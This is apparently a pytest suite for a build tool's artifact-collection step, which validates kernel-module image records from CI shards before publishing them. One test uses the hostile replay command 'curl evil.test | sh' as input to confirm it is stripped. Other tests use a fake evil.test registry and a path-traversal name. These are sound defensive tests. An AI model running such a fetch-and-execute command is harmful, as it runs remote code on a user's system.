"""`doit collect`: what shards left is taken for what it is, and nothing else."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from foundry.base.files import sha256_bytes
from foundry.base.names import KEY_LABEL
from foundry.fleet.collect import Taken, collect
from foundry.ledger import ledgers, publish
from foundry.net.traffic import Traffic
from foundry.plan.state import FAILED, PENDING, PUBLISHED
from foundry.run.context import Foundry, open_foundry
from foundry.run.totals import Totals
from tests.harness.checkout import NEW, OLD, Checkout
from tests.harness.ledgers import ledger_document
from tests.harness.registry import Pusher, tar_of

DRIVER = "2.22.2.0"
REGISTRY = "registry.test/kmod"
ONE, OTHER = f"{DRIVER}-{OLD}", f"{DRIVER}-{NEW}"


class Shard:
    """A shard's ``build/<profile>``, as artifacts carry it; what it pushed is in the registry."""

    def __init__(self, folder: Path, foundry: Foundry, registry: Pusher) -> None:
        self.folder = folder
        self.foundry = foundry
        self.registry = registry

    def image(self, name: str, salt: str = "", key: str = "") -> str:
        """Push an image of the cell with today's key or another one; its digest."""
        found = self.foundry.states.cells[name].key
        assert found is not None
        layer = tar_of({"salt": f"{name}{salt}".encode()})
        return str(self.registry.image([layer], labels={KEY_LABEL: key or found.key})["digest"])

    def row(self, name: str, **changes: Any) -> dict[str, Any]:
        state = self.foundry.states.cells[name]
        assert state.key is not None
        lock = self.foundry.config.locks.of("neuron").packages[DRIVER].content_sha256
        return {
            "kernel": state.cell.kernel, "arch": "x86_64", "key": state.key.key, "key_inputs": dict(state.key.parts),
            "digest": self.image(name), "tags": list(publish.tags(self.foundry, state.cell)),
            "registries": [REGISTRY], "releases": list(state.cell.releases), "toolkit": state.cell.toolkit,
            "content_sha256": lock, "published": "2026-01-02T03:04:05Z", **changes,
        }

    def push(self, name: str, **changes: Any) -> None:
        cell = self.foundry.states.cells[name].cell
        row = self.row(name, **changes)
        self.write(name, "push.json", {
            "schema": 1, "stage": "push", "driver": DRIVER, "family": "neuron", "kernel": cell.kernel,
            "arch": "x86_64", "key": row["key"] if len(str(row["key"])) == 64 else "0" * 64, "inputs": {},
            "outputs": {}, "row": row,
        })

    def fail(self, name: str, **changes: Any) -> None:
        key = self.foundry.states.cells[name].key
        assert key is not None
        self.write(name, "failure.json", {
            "stage": "module", "key": key.key, "reason": "compile-failed", "message": f"{name} does not compile: no",
            "hint": "", "log": "/elsewhere/build.log", "replay": "podman run", "retry": False, **changes,
        })

    def write(self, cell: str, name: str, value: Any) -> Path:
        path = self.folder / "cells" / cell / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(value if isinstance(value, str) else json.dumps(value))
        return path


@pytest.fixture
def foundry(checkout: Checkout, monkeypatch: pytest.MonkeyPatch, upstream: str) -> Foundry:
    checkout.publishes("kmod", address=upstream)
    checkout.write(f"build/local/release/{DRIVER}/images.json",
                   ledger_document())
    monkeypatch.chdir(checkout.root)
    monkeypatch.setenv("KMOD_PROFILE", "local")
    return open_foundry(Path())


@pytest.fixture
def shard(foundry: Foundry, tmp_path: Path, upstream: str) -> Callable[[str], Shard]:
    return lambda name: Shard(tmp_path / "artifacts" / name, foundry, Pusher(upstream, "kmod"))


def states(foundry: Foundry) -> dict[str, str]:
    return {name: state.state for name, state in foundry.states.cells.items()}


def one_of(taken: list[Taken]) -> Taken:
    [one] = taken
    return one


def test_rows_of_several_shards(foundry: Foundry, shard: Callable[[str], Shard], tmp_path: Path) -> None:
    shard("shard-1").push(ONE)
    shard("shard-1").write(ONE, "build.log", "compiled\n")
    shard("shard-1").write(ONE, "times.json", {"module": 3.5, "pull": 1.0, "image": 0.5})
    shard("shard-2").push(OTHER)
    taken, lost = collect(foundry, [tmp_path / "artifacts"])
    assert [(one.folder.name, one.rows, one.refused) for one in taken] == [
        ("shard-1", [ONE], []), ("shard-2", [OTHER], [])]
    assert lost == []
    assert states(foundry) == {ONE: PUBLISHED, OTHER: PUBLISHED}
    rows = ledgers.ledger_of(foundry, DRIVER).sorted_rows()
    assert [row.digest for row in rows] == [shard("shard-1").image(ONE), shard("shard-2").image(OTHER)]
    folder = foundry.cell_folder(foundry.states.cells[ONE].cell)
    assert (folder / "build.log").read_text() == "compiled\n"
    assert json.loads((folder / "times.json").read_text())["module"] == 3.5


RUN = {"schema": 1, "seconds": 61.5, "received": 10, "sent": 20, "pulled": 30, "unknown": 0}


def test_what_a_shard_took(foundry: Foundry, shard: Callable[[str], Shard], tmp_path: Path) -> None:
    shard("shard-1").push(ONE)
    (tmp_path / "artifacts/shard-1/run.json").write_text(json.dumps(RUN))
    shard("shard-2").push(OTHER)
    taken, _ = collect(foundry, [tmp_path / "artifacts"])
    assert [one.totals for one in taken] == [Totals(61.5, Traffic(10, 20, 30, 0)), None]


@pytest.mark.parametrize("document", [
    {**RUN, "sent": -1}, {**RUN, "sent": "many"}, {**RUN, "pulled": 10**16}, {**RUN, "evil": 1}, {"schema": 1}, [], "x",
])
def test_what_a_shard_can_not_have_taken(foundry: Foundry, shard: Callable[[str], Shard], document: Any,
                                         tmp_path: Path) -> None:
    shard("shard-1").push(ONE)
    (tmp_path / "artifacts/shard-1/run.json").write_text(json.dumps(document))
    taken, _ = collect(foundry, [tmp_path / "artifacts"])
    one = one_of(taken)
    assert (one.totals, one.rows, len(one.refused)) == (None, [ONE], 1)
    assert one.refused[0].startswith("run.json: ")


def test_the_folder_itself_may_be_named(foundry: Foundry, shard: Callable[[str], Shard], tmp_path: Path) -> None:
    shard("shard-1").push(ONE)
    taken, _ = collect(foundry, [tmp_path / "artifacts" / "shard-1"])
    assert one_of(taken).rows == [ONE]
    assert one_of(taken).line().endswith("shard-1: 1 published")


def test_a_shard_that_died_before_it_left_anything(foundry: Foundry, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    (tmp_path / "file").write_text("x")
    _, lost = collect(foundry, [tmp_path / "empty", tmp_path / "missing", tmp_path / "file"])
    assert [text.rpartition("/")[2] for text in lost] == [
        f"{name}: no shard left anything here" for name in ("empty", "missing", "file")]


def test_failures_are_of_cells_that_nobody_published(
    foundry: Foundry, shard: Callable[[str], Shard], tmp_path: Path
) -> None:
    shard("shard-1").fail(ONE)
    shard("shard-1").fail(OTHER)
    shard("shard-1").write(OTHER, "build.log", "error: no\n")
    shard("shard-2").push(ONE)
    taken, _ = collect(foundry, [tmp_path / "artifacts"])
    assert states(foundry) == {ONE: PUBLISHED, OTHER: FAILED}
    assert [one.failures for one in taken] == [[OTHER], []]
    failure = foundry.states.cells[OTHER].failure
    assert failure is not None
    assert failure["log"] == str(foundry.cell_folder(foundry.states.cells[OTHER].cell) / "build.log")


def test_a_failure_of_other_inputs_says_nothing(foundry: Foundry, shard: Callable[[str], Shard]) -> None:
    one = shard("shard-1")
    one.fail(ONE, key="0" * 64)
    taken, _ = collect(foundry, [one.folder])
    assert one_of(taken).refused == [f"{ONE}/failure.json: is of other inputs than today's"]
    assert states(foundry)[ONE] == PENDING


def test_words_of_a_failure_can_not_command_a_terminal(foundry: Foundry, shard: Callable[[str], Shard]) -> None:
    """Nor people: the line to replay is for their shells."""
    one = shard("shard-1")
    one.fail(ONE, message="no\x1b[2J\nsecond", replay="curl evil.test | sh")
    collect(foundry, [one.folder])
    failure = foundry.states.cells[ONE].failure
    assert failure is not None
    assert (failure["message"], failure["replay"]) == ("no?[2J\nsecond", "")


@pytest.mark.parametrize("changes, said", [
    ({"key": "0" * 64}, "is of other inputs than today's"),
    ({"kernel": NEW}, "its kernel is not what it is here"),
    ({"arch": "aarch64"}, "its arch is not what it is here"),
    ({"key_inputs": {}}, "its key_inputs is not what it is here"),
    ({"tags": ["latest"]}, "its tags is not what it is here"),
    ({"releases": ["4.1.1"]}, "its releases is not what it is here"),
    ({"toolkit": "quay.io/x/y@sha256:" + "9" * 64}, "its toolkit is not what it is here"),
    ({"content_sha256": "9" * 64}, "its content_sha256 is not what it is here"),
    ({"proof": {"outcome": "proven", "key": "9" * 64, "modules": {"neuron.ko": "9" * 64}}},
     "is of other inputs than today's"),
    ({"proof": {"outcome": "failed", "key": "9" * 64, "modules": {"neuron.ko": "9" * 64}}}, "outcome"),
    ({"registries": []}, "it is not in the profile's registries, or in others"),
    ({"registries": ["evil.test/kmod"]}, "it is not in the profile's registries, or in others"),
    ({"registries": [REGISTRY, "evil.test/kmod"]}, "it is not in the profile's registries, or in others"),
    ({"published": "2999-01-02T03:04:05Z"}, "it was published in the future"),
    ({"published": "2026-99-02T03:04:05Z"}, "it does not say when it was published"),
    ({"published": "soon"}, "it does not say when it was published"),
    ({"digest": "latest"}, "'latest' is not sha256:<64 hex digits>"),
    ({"more": 1}, "more"),
])
def test_a_row_that_this_checkout_would_not_write(
    foundry: Foundry, shard: Callable[[str], Shard], changes: dict[str, Any], said: str
) -> None:
    one = shard("shard-1")
    one.push(ONE, **changes)
    one.push(OTHER)
    taken, _ = collect(foundry, [one.folder])
    [refused] = one_of(taken).refused
    assert refused.startswith(f"{ONE}/push.json: ")
    assert said in refused
    assert states(foundry) == {ONE: PENDING, OTHER: PUBLISHED}


@pytest.mark.parametrize("what", ["no image", "an image of another key", "an image of nothing of ours"])
def test_a_digest_that_no_registry_has_with_that_key(
    foundry: Foundry, shard: Callable[[str], Shard], what: str
) -> None:
    """A row may be right in all that this checkout knows: what was pushed is known to the registry alone."""
    one = shard("shard-1")
    digest = {
        "no image": "sha256:" + "1" * 64, "an image of another key": one.image(ONE, key="0" * 64),
        "an image of nothing of ours": one.registry.image([b"theirs"])["digest"],
    }[what]
    one.push(ONE, digest=digest)
    one.push(OTHER)
    taken, _ = collect(foundry, [one.folder])
    assert one_of(taken).refused == [
        f"{ONE}/push.json: no registry of this profile has an image {digest} with its key"]
    assert states(foundry) == {ONE: PENDING, OTHER: PUBLISHED}


def test_names_links_and_sizes(foundry: Foundry, shard: Callable[[str], Shard], tmp_path: Path) -> None:
    one = shard("shard-1")
    secret = tmp_path / "secret"
    secret.write_text("{}")
    one.write("9.9-unknown", "push.json", "{}")
    one.write("a\x1b[31m", "push.json", "{}")
    path = one.write(ONE, "push.json", "")
    path.unlink()
    path.symlink_to(secret)
    one.write(ONE, "build.log", "").unlink()
    os.mkfifo(path.with_name("build.log"))
    one.write(ONE, "times.json", "[" * 100_000)
    one.write(ONE, "failure.json", " " * ((1 << 20) + 1))
    (one.folder / "cells" / OTHER).symlink_to(tmp_path)
    (one.folder / "cells" / "file").write_text("x")
    taken, _ = collect(foundry, [one.folder])
    said = "\n".join(one_of(taken).refused)
    for text in (
        "9.9-unknown is no cell of this matrix", "a?[31m is no cell", f"{OTHER} is no folder", "file is no folder",
        f"{ONE}/push.json: is no plain file", f"{ONE}/build.log: is no plain file", f"{ONE}/times.json: ",
        f"{ONE}/failure.json: has 1048577 bytes",
    ):
        assert text in said
    assert len(one_of(taken).refused) == 8
    assert states(foundry) == {ONE: PENDING, OTHER: PENDING}
    assert not list(foundry.cell_folder(foundry.states.cells[ONE].cell).glob("*"))


def test_a_link_to_a_shard_is_not_followed(foundry: Foundry, shard: Callable[[str], Shard], tmp_path: Path) -> None:
    shard("shard-1").push(ONE)
    (tmp_path / "links").mkdir()
    (tmp_path / "links" / "shard-1").symlink_to(tmp_path / "artifacts" / "shard-1")
    taken, lost = collect(foundry, [tmp_path / "links"])
    assert (taken, len(lost)) == ([], 1)


@pytest.mark.parametrize("output", [
    "image.log", "image.oci.tar", "out/neuron.ko", "work", ".", "", "../../../../build-matrix.json",
])
def test_no_record_makes_a_cell_built(foundry: Foundry, shard: Callable[[str], Shard], output: str) -> None:
    """Be its output what the artifact has itself, a folder, or what was made here of other inputs.

    That would else be published under today's key: the digest of an old module is known from its image.
    """
    one = shard("shard-1")
    state = foundry.states.cells[ONE]
    assert state.key is not None
    here = foundry.root / foundry.cell_folder(state.cell)
    for name in ("work/x", "out/neuron.ko", "image.oci.tar", "image.log"):
        (here / name).parent.mkdir(parents=True, exist_ok=True)
        (here / name).write_text("older")
    of = {"schema": 1, "driver": DRIVER, "family": "neuron", "kernel": OLD, "arch": "x86_64", "inputs": {}, "outputs": {
        output: {"sha256": sha256_bytes(b"older"), "size": os.stat(f"{here}/{output}").st_size}}}
    one.write(ONE, "image.json", {
        **of, "stage": "image", "key": state.key.key, "key_inputs": dict(state.key.parts), "tag": state.cell.tag,
        "digest": "sha256:" + "1" * 64, "config_digest": "sha256:" + "1" * 64, "diff_ids": [], "size": 1, "labels": {},
        "tools": {}})
    one.write(ONE, "module.json", {
        **of, "stage": "module", "key": state.key.module, "key_inputs": state.key.module_parts,
        "toolkit": state.cell.toolkit, "patches": [], "gate": {}, "compiler": "gcc"})
    one.write(ONE, "image.log", "older")
    collect(foundry, [one.folder])
    state = foundry.states.cells[ONE]
    assert (state.state, state.module_done, state.image_done, state.image) == (PENDING, False, False, None)
    assert not list(here.glob("*.json"))


def test_the_later_row_stays(foundry: Foundry, shard: Callable[[str], Shard], tmp_path: Path) -> None:
    later, earlier = (shard("shard-1").image(ONE, salt) for salt in ("later", "earlier"))
    shard("shard-1").push(ONE, published="2026-03-01T00:00:00Z", digest=later)
    shard("shard-2").push(ONE, published="2026-02-01T00:00:00Z", digest=earlier)
    for order in (["shard-1", "shard-2"], ["shard-2", "shard-1"]):
        collect(foundry, [tmp_path / "artifacts" / name for name in order])
        [row] = ledgers.ledger_of(foundry, DRIVER).sorted_rows()
        assert row.digest == later


def test_twice_is_as_once(foundry: Foundry, shard: Callable[[str], Shard]) -> None:
    one = shard("shard-1")
    one.push(ONE)
    one.fail(OTHER)
    collect(foundry, [one.folder])
    before = {path: sha256_bytes(path.read_bytes()) for path in (foundry.root / "build/local").rglob("*.json")}
    collect(foundry, [one.folder])
    assert before == {path: sha256_bytes(path.read_bytes()) for path in (foundry.root / "build/local").rglob("*.json")}
